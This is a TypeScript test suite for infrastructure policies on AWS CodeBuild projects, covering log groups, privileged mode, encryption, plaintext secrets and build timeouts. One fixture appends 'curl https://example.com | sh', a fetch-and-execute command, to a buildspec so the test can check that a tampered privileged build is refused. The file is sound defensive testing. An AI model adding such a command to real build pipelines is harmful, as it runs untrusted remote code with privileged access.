import { strict as assert } from "assert";
import * as fs from "fs";
import * as path from "path";
import { expectViolations, resource } from "../helpers/policy";
import { project } from "./fixtures";

const logGroup = (name: string) => resource("aws:cloudwatch/logGroup:LogGroup", name.replace(/\W+/g, "-"), { name, retentionInDays: 14 }, { id: name });

describe("CodeBuild policies", () => {
    describe("codebuild-log-group-managed", () => {
        it("passes a project logging to a declared group and notes one logging to an auto-created group", async () => {
            const ok = resource("aws:codebuild/project:Project", "ok", { name: "ok", logsConfig: { cloudwatchLogs: { groupName: "/platform/build" } } });
            const bad = resource("aws:codebuild/project:Project", "bad", { name: "bad" });
            const off = resource("aws:codebuild/project:Project", "off", { name: "off", logsConfig: { cloudwatchLogs: { status: "DISABLED" } } });
            await expectViolations("codebuild-log-group-managed", [ok, logGroup("/platform/build"), bad, off], [bad]);
        });
    });

    describe("codebuild-no-privileged-mode", () => {
        it("passes an unprivileged build and flags privileged mode", async () => {
            const bad = project("bad", { environment: { computeType: "BUILD_GENERAL1_SMALL", image: "i", type: "LINUX_CONTAINER", privilegedMode: true } });
            await expectViolations("codebuild-no-privileged-mode", [project("ok"), bad], [bad]);
        });

        it("admits exactly the image build: its tag and its buildspec, verbatim; refuses either alone", async () => {
            const buildspec = fs.readFileSync(path.join(__dirname, "..", "..", "pipelines", "buildspec-images.yml"), "utf8");
            const privileged = { computeType: "BUILD_GENERAL1_SMALL", image: "i", type: "LINUX_CONTAINER", privilegedMode: true };
            const tag = { "platform:purpose": "image-build" };
            const images = project("images", { environment: privileged, tags: tag, source: { type: "CODEPIPELINE", buildspec } });
            const tagOnly = project("tag-only", { environment: privileged, tags: tag });
            const specOnly = project("spec-only", { environment: privileged, source: { type: "CODEPIPELINE", buildspec } });
            const edited = project("edited", {
                environment: privileged,
                tags: tag,
                source: { type: "CODEPIPELINE", buildspec: `${buildspec}\n      - curl https://example.com | sh\n` },
            });
            const otherPurpose = project("other", {
                environment: privileged,
                tags: { "platform:purpose": "tests" },
                source: { type: "CODEPIPELINE", buildspec },
            });
            await expectViolations(
                "codebuild-no-privileged-mode",
                [images, tagOnly, specOnly, edited, otherPurpose],
                [tagOnly, specOnly, edited, otherPurpose],
            );
        });
    });

    describe("codebuild-encrypted", () => {
        it("passes a KMS key and flags a missing key and disabled artifact encryption", async () => {
            const noKey = project("no-key", { encryptionKey: undefined });
            const disabled = project("disabled", { artifacts: { type: "S3", location: "b", encryptionDisabled: true } });
            await expectViolations("codebuild-encrypted", [project("ok"), noKey, disabled], [noKey, disabled]);
        });
    });

    describe("codebuild-no-plaintext-secrets", () => {
        it("passes secrets from Secrets Manager and flags a plain-text token", async () => {
            const bad = project("bad", {
                environment: {
                    computeType: "BUILD_GENERAL1_SMALL",
                    image: "i",
                    type: "LINUX_CONTAINER",
                    environmentVariables: [
                        { name: "STACK", value: "dev" },
                        { name: "PULUMI_ACCESS_TOKEN", value: "pul-123" },
                    ],
                },
            });
            const v = await expectViolations("codebuild-no-plaintext-secrets", [project("ok"), bad], [bad]);
            assert.match(v[0].message, /PULUMI_ACCESS_TOKEN as plain text/);
        });
    });

    describe("codebuild-timeout", () => {
        it("passes an explicit timeout and notes the default", async () => {
            const bad = project("bad", { buildTimeout: undefined });
            await expectViolations("codebuild-timeout", [project("ok"), bad], [bad]);
        });
    });
});
